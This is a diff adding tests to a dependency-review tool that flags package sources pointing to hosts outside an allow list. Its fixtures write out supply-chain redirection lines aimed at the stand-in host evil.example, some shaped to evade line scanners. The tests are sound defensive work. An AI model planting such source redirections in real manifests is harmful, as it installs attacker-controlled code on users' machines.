@@ -5,6 +5,7 @@
 // TOML); the attack puts an evil host where a line scanner or a per-key reader would not look.
 
 import { lockfileHosts, reviewDependencyChange, type Finding } from '../../../../src/core/dependency-review.js';
+import { identifyPath } from '../../../../src/core/identify/index.js';
 
 const ALLOW = ['registry.npmjs.org', 'registry.yarnpkg.com', 'pypi.org', 'files.pythonhosted.org', 'crates.io', 'static.crates.io', 'index.crates.io', 'rubygems.org', 'github.com', 'codeload.github.com', 'repo.packagist.org'];
 const EVIL = 'evil.example';
@@ -352,5 +353,261 @@ describe('the walk reads keys too, and stays fast', () => {
     const r = lockfileHosts('pnpm-lock.yaml', PNPM(`\n  x@https://${EVIL}/x.tgz:\n    resolution: {integrity: sha512-x}\n`));
     expect(r.hosts).toEqual([EVIL]);
     expect(r.hostSites.get(EVIL)).toBe(`packages['x@https://${EVIL}/x.tgz']`);
+  });
+});
+
+// ------------------------------------------------------------------------------------------------
+// Manifests and configuration: the same rule on their dependency, registry and index settings
+
+const codesOf = (path: string, head: string, base: string | null = null, allow = ALLOW) => reviewDependencyChange(path, base, head, allow).map((x) => `${x.severity} ${x.code}`);
+
+describe('requirements.txt: as pip reads its logical lines', () => {
+  test.each([
+    ['a short option with the URL attached', `-ihttps://${EVIL}/simple\nrequests==2.32.3\n`],
+    ['a long option with =', `--index-url=https://${EVIL}/simple\nrequests==2.32.3\n`],
+    ['an option split from its URL by a line continuation', `--extra-index-url \\\n    https://${EVIL}/simple\nrequests==2.32.3\n`],
+    ['a short option split inside itself by a continuation', `requests==2.32.3\n-\\\nihttps://${EVIL}/simple\n`],
+    ['a direct-URL requirement', `requests @ https://${EVIL}/requests-2.32.3-py3-none-any.whl\n`],
+    ['an editable VCS requirement over ssh', `-e git+ssh://git@${EVIL}/u/p.git#egg=p\n`],
+    ['find-links', `--find-links https://${EVIL}/wheels/\nrequests==2.32.3\n`],
+  ])('%s on a host outside the list is a deny', (_what, head) => {
+    expect(evilDenies('requirements.txt', head, 'requests==2.32.3\n')).toEqual(DENY);
+  });
+
+  test.each([
+    ['a lone carriage return', '\r'],
+    ['a form feed', '\f'],
+    ['a Unicode line separator', '\u2028'],
+  ])('an option after %s starts a line, as pip splits lines', (_what, br) => {
+    // An allowed index: the change itself (a new index) is what must show.
+    const head = `requests==2.32.3${br}--extra-index-url https://pypi.org/simple\n`;
+    expect(codesOf('requirements.txt', head, 'requests==2.32.3\n')).toEqual(['high python_index']);
+    expect(evilDenies('requirements.txt', `requests==2.32.3${br}-i https://${EVIL}/simple\n`, 'requests==2.32.3\n')).toEqual(DENY);
+  });
+
+  test('an index already in the base is not reported again for an unrelated edit', () => {
+    const base = `--extra-index-url https://${EVIL}/simple\nrequests==2.32.3\n`;
+    expect(reviewDependencyChange('requirements.txt', base, `${base}flask==3.0.3\n`, ALLOW)).toEqual([]);
+  });
+});
+
+describe('pyproject.toml, Pipfile, pylock.toml', () => {
+  const PYPROJECT = `[project]
+name = "app"
+version = "0.1.0"
+description = "It's the app; see https://docs.${EVIL}/"
+dependencies = ["requests>=2.32"]
+
+[project.urls]
+Homepage = "https://${EVIL}/"
+
+[build-system]
+requires = ["hatchling"]
+build-backend = "hatchling.build"
+`;
+
+  const sourceHostFindings = (path: string, head: string) => reviewDependencyChange(path, null, head, ALLOW).filter((x) => x.rule === 'dependencies/source-hosts');
+
+  test('project metadata (description, urls) is not a source', () => {
+    expect(sourceHostFindings('pyproject.toml', PYPROJECT)).toEqual([]);
+  });
+
+  test.each([
+    ['a PEP 508 direct reference', PYPROJECT.replace('"requests>=2.32"', `"requests @ https://${EVIL}/requests-2.32.3.tar.gz"`)],
+    ['a build requirement from a URL', PYPROJECT.replace('requires = ["hatchling"]', `requires = ["hatchling @ https://${EVIL}/hatchling.whl"]`)],
+    ['a uv source', `${PYPROJECT}\n[tool.uv.sources]\nrequests = { url = "https://${EVIL}/requests.whl" }\n`],
+    ['a poetry source after a literal string with an apostrophe', `${PYPROJECT}\n[tool.poetry]\nreadme = '''it's here'''\n\n[[tool.poetry.source]]\nname = "mirror"\nurl = "https://${EVIL}/simple/"\n`],
+    ['a dependency group', `${PYPROJECT}\n[dependency-groups]\ndev = ["pytest @ git+https://${EVIL}/pytest.git"]\n`],
+  ])('%s on a host outside the list is a deny', (_what, head) => {
+    expect(evilDenies('pyproject.toml', head, PYPROJECT)).toEqual(DENY);
+  });
+
+  const PIPFILE = `[[source]]
+url = "https://pypi.org/simple"
+verify_ssl = true
+name = "pypi"
+
+[packages]
+requests = "==2.32.3"
+
+[dev-packages]
+
+[requires]
+python_version = "3.12"
+
+[scripts]
+docs = "python -m webbrowser https://docs.${EVIL}/"
+`;
+
+  test('Pipfile: its own index and scripts name no source outside the list (the scripts pipenv runs are high)', () => {
+    expect(sourceHostFindings('Pipfile', PIPFILE)).toEqual([]);
+    expect(codesOf('Pipfile', PIPFILE.replace('docs = ', 'lint = "ruff check"\ndocs = '), PIPFILE)).toEqual(['high python_setting']);
+  });
+
+  test('Pipfile: a new source, and a package from git, on a host outside the list are denies (and high)', () => {
+    const source = `${PIPFILE}\n[[source]]\nurl = "https://${EVIL}/simple"\nverify_ssl = true\nname = "mirror"\n`;
+    expect(codesOf('Pipfile', source, PIPFILE)).toEqual(['deny dependency_host_not_allowed', 'high python_index', 'high python_setting', 'high python_setting']);
+    const git = PIPFILE.replace('requests = "==2.32.3"', `requests = { git = "https://${EVIL}/requests.git", ref = "v2.32.3" }`);
+    expect(codesOf('Pipfile', git, PIPFILE)).toEqual(['deny dependency_host_not_allowed', 'high python_vcs_source']);
+  });
+
+  const PYLOCK = (pkg: string) => `lock-version = "1.0"
+environments = ["sys_platform == 'linux'"]
+requires-python = ">=3.12"
+created-by = "uv"
+
+[[packages]]
+name = "requests"
+version = "2.32.3"
+index = "https://pypi.org/simple"
+sdist = { url = "https://files.pythonhosted.org/packages/63/70/requests-2.32.3.tar.gz", upload-time = 2024-05-29T15:37:49Z, size = 131218, hashes = { sha256 = "55365417734eb18255590a9ff9eb97e9e1da868d4ccd6402399eaf68af20a760" } }
+wheels = [{ url = "https://files.pythonhosted.org/packages/f9/9b/requests-2.32.3-py3-none-any.whl", size = 64928, hashes = { sha256 = "70761cfe03c773ceb22aa2f671b4757976145175cdfca038c02654d061d6dcc6" } }]
+${pkg}`;
+
+  test('pylock.toml is a reviewed lockfile; the registry fixture passes', () => {
+    expect(reviewDependencyChange('pylock.toml', null, PYLOCK(''), ALLOW)).toEqual([]);
+    expect(reviewDependencyChange('pylock.dev.toml', null, PYLOCK(''), ALLOW)).toEqual([]);
+    expect(codesOf('pylock.toml', 'lock-version = "1.0"\n[[packages]]\nname = "x"\n[[packages]]\nname = \n')).toEqual(['deny dependency_lockfile_unparseable']);
+  });
+
+  test.each([
+    ['a vcs url', `\n[[packages]]\nname = "x"\nvcs = { type = "git", url = "https://${EVIL}/x.git", commit-id = "0123456789abcdef0123456789abcdef01234567" }\n`, ['deny dependency_host_not_allowed', 'high dependency_git_source']],
+    ['an archive url', `\n[[packages]]\nname = "x"\narchive = { url = "https://${EVIL}/x-1.0.tar.gz", hashes = { sha256 = "ab" } }\n`, ['deny dependency_host_not_allowed']],
+    ['an sdist url', `\n[[packages]]\nname = "x"\nsdist = { url = "https://${EVIL}/x-1.0.tar.gz", hashes = { sha256 = "ab" } }\n`, ['deny dependency_host_not_allowed']],
+    ['a wheel url', `\n[[packages]]\nname = "x"\nwheels = [{ url = "https://${EVIL}/x-1.0-py3-none-any.whl", hashes = { sha256 = "ab" } }]\n`, ['deny dependency_host_not_allowed']],
+    ['an index', `\n[[packages]]\nname = "x"\nindex = "https://${EVIL}/simple"\n`, ['deny dependency_host_not_allowed']],
+  ])('pylock.toml: %s outside the list is a deny', (_what, pkg, expected) => {
+    expect(codesOf('pylock.toml', PYLOCK(pkg))).toEqual(expected);
+    expect(evilDenies('pylock.toml', PYLOCK(pkg))).toEqual(DENY);
+  });
+});
+
+describe('Cargo.toml', () => {
+  const CARGO_TOML = `[package]
+name = "app"
+version = "0.1.0"
+edition = "2021"
+homepage = "https://${EVIL}/"
+repository = "https://${EVIL}/app"
+
+[package.metadata.docs.rs]
+rustdoc-args = ["--html-in-header", "https://${EVIL}/header.html"]
+
+[dependencies]
+serde = { version = "1.0", features = ["derive"] }
+`;
+
+  test('package metadata is not a source; a version from crates.io is no finding', () => {
+    expect(reviewDependencyChange('Cargo.toml', null, CARGO_TOML, ['crates.io'])).toEqual([]);
+    expect(reviewDependencyChange('Cargo.toml', CARGO_TOML, CARGO_TOML.replace('"1.0"', '"1.0.210"'), ['crates.io'])).toEqual([]);
+  });
+
+  test.each([
+    ['a git dependency', CARGO_TOML.replace('serde = { version = "1.0", features = ["derive"] }', `serde = { git = "https://${EVIL}/serde", branch = "main" }`)],
+    ['a target-specific git dependency', `${CARGO_TOML}\n[target.'cfg(unix)'.dependencies]\nnix = { git = "ssh://git@${EVIL}/nix.git" }\n`],
+    ['a registry-index dependency', `${CARGO_TOML}\n[dev-dependencies]\nmock = { version = "1", registry-index = "sparse+https://${EVIL}/index/" }\n`],
+    ['a [patch] keyed by its source URL', `${CARGO_TOML}\n[patch."https://${EVIL}/serde"]\nserde = { path = "vendor/serde" }\n`],
+    ['a workspace dependency', `${CARGO_TOML}\n[workspace.dependencies]\ntokio = { git = "https://${EVIL}/tokio" }\n`],
+  ])('%s on a host outside the list is a deny, and high', (_what, head) => {
+    const codes = codesOf('Cargo.toml', head, CARGO_TOML, ['crates.io']);
+    expect(codes[0]).toBe('deny dependency_host_not_allowed');
+    expect(codes).toContain('high cargo_dependency_source');
+    expect(evilDenies('Cargo.toml', head, CARGO_TOML)).toEqual(DENY);
+  });
+
+  test('a path dependency is high, no host', () => {
+    expect(codesOf('Cargo.toml', CARGO_TOML.replace('serde = { version = "1.0", features = ["derive"] }', 'serde = { path = "../serde" }'), CARGO_TOML)).toEqual(['high cargo_dependency_source']);
+  });
+});
+
+describe('Go: module paths are identities; where modules come from is reviewed', () => {
+  const GO_MOD = 'module example.com/app\n\ngo 1.22\n\nrequire github.com/pkg/errors v0.9.1\n';
+
+  test('a require or replace naming a module on a host outside the list is no source-host deny', () => {
+    expect(codesOf('go.mod', `${GO_MOD}require ${EVIL}/lib v1.0.0\n`, GO_MOD)).toEqual([]);
+    expect(codesOf('go.mod', `${GO_MOD}replace github.com/pkg/errors => ${EVIL}/errors v0.9.1\n`, GO_MOD)).toEqual(['high go_replace']);
+  });
+
+  test('a toolchain line, and GOPROXY, GOFLAGS, GONOSUMDB and GOPRIVATE in go.env, are reviewed; a proxy outside the list is a deny', () => {
+    expect(codesOf('go.mod', `${GO_MOD}\ntoolchain go1.23.4\n`, GO_MOD)).toEqual(['high go_toolchain']);
+    expect(codesOf('go.env', `GOPROXY=https://${EVIL}|https://proxy.golang.org,direct\n`, 'GOPROXY=https://proxy.golang.org,direct\n', [...ALLOW, 'proxy.golang.org'])).toEqual(['deny dependency_host_not_allowed', 'high go_env_proxy']);
+    expect(codesOf('go.env', 'GOPROXY=https://proxy.golang.org,direct\n', null, [...ALLOW, 'proxy.golang.org'])).toEqual(['high go_env_proxy']);
+    expect(codesOf('go.env', 'GOFLAGS=-mod=mod\nGONOSUMDB=*\nGOPRIVATE=example.com\n')).toEqual(['high go_env_setting', 'high go_env_checksum', 'high go_env_proxy']);
+  });
+});
+
+describe('a dependency file without a reader is high and says so', () => {
+  test.each([
+    ['Gemfile', 'high'],
+    ['pom.xml', 'high'],
+    ['mix.lock', 'high'],
+    ['deno.lock', 'medium'],
+    ['Gopkg.lock', 'medium'],
+    ['charts/app/Chart.yaml', 'medium'],
+    ['requirements.yaml', 'medium'],
+    ['ios/Package.resolved', 'medium'],
+    ['sub/pubspec.lock', 'high'],
+    ['package.json', 'medium'],
+    ['Cargo.toml', 'medium'],
+    ['pylock.toml', 'medium'],
+    ['Pipfile', 'medium'],
+    // go.sum holds hashes only: nothing to read, no friction.
+    ['go.sum', 'medium'],
+    ['go.work.sum', 'medium'],
+  ])('%s -> %s', (path, floor) => {
+    const id = identifyPath(path.toLowerCase());
+    expect([id.code, id.floor]).toEqual(['dependency_manifest', floor]);
+    if (floor === 'high') expect(id.message).toContain('that the dependency review has no reader for, so where it installs from is not checked');
+  });
+});
+
+describe('configuration files split lines as their tools do', () => {
+  test('.npmrc and pip.conf: a setting after a lone carriage return is a setting (npm ini and configparser split there)', () => {
+    expect(codesOf('.npmrc', `save-exact=true\rregistry=https://${EVIL}/\n`, 'save-exact=true\n')).toEqual(['deny dependency_host_not_allowed', 'high npmrc_registry']);
+    expect(codesOf('pip.conf', `[global]\ntimeout = 60\rindex-url = https://${EVIL}/simple\n`, '[global]\ntimeout = 60\n')).toEqual(['deny dependency_host_not_allowed', 'high python_index']);
+  });
+});
+
+describe('deno.lock and Package.resolved: every URL in them is a source', () => {
+  const DENO = (remote: string) => JSON.stringify({ version: '4', specifiers: { 'jsr:@std/assert@1': '1.0.8' }, jsr: { '@std/assert@1.0.8': { integrity: 'ab' } }, remote: { 'https://deno.land/std@0.224.0/path/mod.ts': 'cd', [remote]: 'ef' } }, null, 2);
+  const SWIFT = (location: string) => JSON.stringify({ originHash: 'ab', pins: [{ identity: 'swift-argument-parser', kind: 'remoteSourceControl', location, state: { revision: '41982a3656a71c768319979febd796c6fd111d5c', version: '1.5.0' } }], version: 3 }, null, 2);
+  const allow = ['deno.land', 'github.com'];
+
+  test('registry and allowed remote modules pass; a remote module outside the list is a deny', () => {
+    expect(reviewDependencyChange('deno.lock', null, DENO('https://deno.land/x/oak@v12.6.1/mod.ts'), allow)).toEqual([]);
+    expect(reviewDependencyChange('deno.lock', null, DENO(`https://${EVIL}/mod.ts`), allow).map((x) => `${x.severity} ${x.code}`)).toEqual(['deny dependency_host_not_allowed']);
+  });
+
+  test('a SwiftPM pin on an allowed git host passes; one outside the list is a deny; a file that is no Package.resolved is unreadable', () => {
+    expect(reviewDependencyChange('Package.resolved', null, SWIFT('https://github.com/apple/swift-argument-parser.git'), allow)).toEqual([]);
+    expect(reviewDependencyChange('Package.resolved', null, SWIFT(`git@${EVIL}:apple/swift-argument-parser.git`), allow).map((x) => `${x.severity} ${x.code}`)).toEqual(['deny dependency_host_not_allowed']);
+    expect(reviewDependencyChange('Package.resolved', null, '{"version": 3}', allow).map((x) => `${x.severity} ${x.code}`)).toEqual(['deny dependency_lockfile_unparseable']);
+  });
+});
+
+describe('Helm charts and golang/dep: the repositories they fetch from are sources', () => {
+  const CHART = (repository: string) => `# A chart
+apiVersion: v2
+name: app
+version: 1.2.3
+home: https://${EVIL}/app
+dependencies:
+  - name: redis
+    version: 19.6.4
+    repository: ${repository}
+`;
+  const allow = ['charts.bitnami.com', 'github.com'];
+
+  test('Chart.yaml: an allowed repository passes (the home URL is metadata); one outside the list is a deny; one that is no YAML is high', () => {
+    expect(reviewDependencyChange('charts/app/Chart.yaml', null, CHART('https://charts.bitnami.com/bitnami'), allow)).toEqual([]);
+    expect(reviewDependencyChange('charts/app/Chart.yaml', null, CHART('oci://registry.evil.example/charts'), allow).map((x) => `${x.severity} ${x.code}`)).toEqual(['deny dependency_host_not_allowed']);
+    expect(reviewDependencyChange('requirements.yaml', null, `dependencies:\n- name: redis\n  repository: https://${EVIL}/charts\n`, allow).map((x) => `${x.rule} ${x.code}`)).toEqual(DENY);
+    expect(reviewDependencyChange('Chart.yaml', null, 'name: [app\n', allow).map((x) => `${x.severity} ${x.code}`)).toEqual(['high helm_chart_unparseable']);
+  });
+
+  test('Gopkg.lock: a project source outside the list is a deny; import paths are not read as hosts', () => {
+    const lock = (source: string) => `# This file is autogenerated, do not edit; changes may be undone by the next 'dep ensure'.\n\n[[projects]]\n  name = "github.com/pkg/errors"\n  packages = ["."]\n  revision = "645ef00459ed84a119197bfb8d8205042c6df63d"\n  version = "v0.8.0"${source}\n\n[solve-meta]\n  analyzer-name = "dep"\n  analyzer-version = 1\n  inputs-digest = "ab"\n  solver-name = "gps-cdcl"\n  solver-version = 1\n`;
+    expect(reviewDependencyChange('Gopkg.lock', null, lock(''), allow)).toEqual([]);
+    expect(reviewDependencyChange('Gopkg.lock', null, lock(`\n  source = "https://${EVIL}/errors.git"`), allow).map((x) => `${x.rule} ${x.code}`)).toEqual(DENY);
   });
 });
